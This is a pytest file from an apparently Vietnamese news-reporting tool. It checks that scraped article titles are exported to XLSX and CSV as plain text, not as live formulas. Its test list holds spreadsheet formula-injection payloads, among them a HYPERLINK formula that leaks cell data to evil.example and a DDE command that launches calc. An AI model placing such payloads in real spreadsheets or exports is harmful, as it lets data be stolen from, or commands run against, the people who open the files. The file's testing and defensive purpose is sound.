"""Hostile titles from the site or Facebook reach every XLSX as text, never as a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from helpers.reports_fixture import make_month

from reports.cells import csv_text, is_dangerous
from reports.render import write_contributors, write_month, write_year

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(tmp_path):
    store, config, _db = make_month(tmp_path)
    with store.transaction():
        for i, title in enumerate(HOSTILE):
            store.upsert_item({
                "source": "website", "key": f"/doc-{i}", "url": f"https://congdoanhatinh.vn/doc-{i}",
                "title": title, "published_utc": "2025-05-16T02:00:00Z", "local_date": "2025-05-16",
                "date_source": "json-ld", "kind": "news", "kind_reason": "default (news)",
                "unit_id": None, "unit_reason": "no unit named", "byline": "=1+2",
                "flags": ["Không tìm thấy bút danh (tác giả) của bài"],  # listed as unsure too
            }, ["nguyen-thu-ha"])  # fmt: skip
        store.upsert_item({
            "source": "facebook", "key": "fb:evil", "url": "https://facebook.com/fb:evil",
            "title": "=HYPERLINK(\"http://evil.example\")", "published_utc": "2025-05-17T02:00:00Z",
            "local_date": "2025-05-17", "date_source": "export", "kind": "news",
            "kind_reason": "facebook photo", "unit_reason": "no unit named",
        })  # fmt: skip
    out = tmp_path / "out"
    paths = [
        write_month(store, config, "2025-05", out, {"xlsx"})["xlsx"],
        write_year(store, config, 2025, out, {"xlsx"})["xlsx"],
        write_contributors(store, config, "2025-05", out, {"xlsx"})["xlsx"],
    ]
    yield paths
    store.close()


def _cells(path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def test_no_formula_in_any_workbook(hostile):
    for path in hostile:
        for sheet, cell in _cells(path):
            assert cell.data_type != "f", (path.name, sheet, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (path.name, sheet, cell.coordinate)
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_hostile_titles_read_as_the_site_shows_them(hostile):
    month = hostile[0]
    wb = openpyxl.load_workbook(month)
    items = wb["Tin bài"]
    col = [c.value for c in items[1]].index("Tiêu đề") + 1
    cells = {items.cell(r, col).value: items.cell(r, col) for r in range(2, items.max_row + 1)}
    for title in HOSTILE:
        assert title in cells, title
        cell = cells[title]
        assert cell.data_type == "s"
        assert cell.quotePrefix  # shown and kept as text when edited
    assert '=HYPERLINK("http://evil.example")' in cells
    unsure = wb["Cần kiểm tra lại"]
    col = [c.value for c in unsure[1]].index("Tiêu đề") + 1
    cells = {unsure.cell(r, col).value: unsure.cell(r, col) for r in range(2, unsure.max_row + 1)}
    for title in HOSTILE:
        assert cells[title].data_type == "s" and cells[title].quotePrefix, title


def test_year_and_contributors_workbooks_keep_text(hostile):
    contrib = openpyxl.load_workbook(hostile[2])
    titles = [c.value for c in contrib["Tin bài"]["E"]]
    assert "=cmd|' /C calc'!A0" in titles


def test_csv_text_follows_owasp():
    for title in HOSTILE:
        assert is_dangerous(title)
        assert csv_text(title) == "'" + title
    assert csv_text("Hội nghị người lao động") == "Hội nghị người lao động"
    assert csv_text(12) == 12
    buf = io.StringIO()
    csv.writer(buf).writerow([csv_text(t) for t in HOSTILE[:2]])
    assert all(v.startswith("'") for v in next(csv.reader(io.StringIO(buf.getvalue()))))
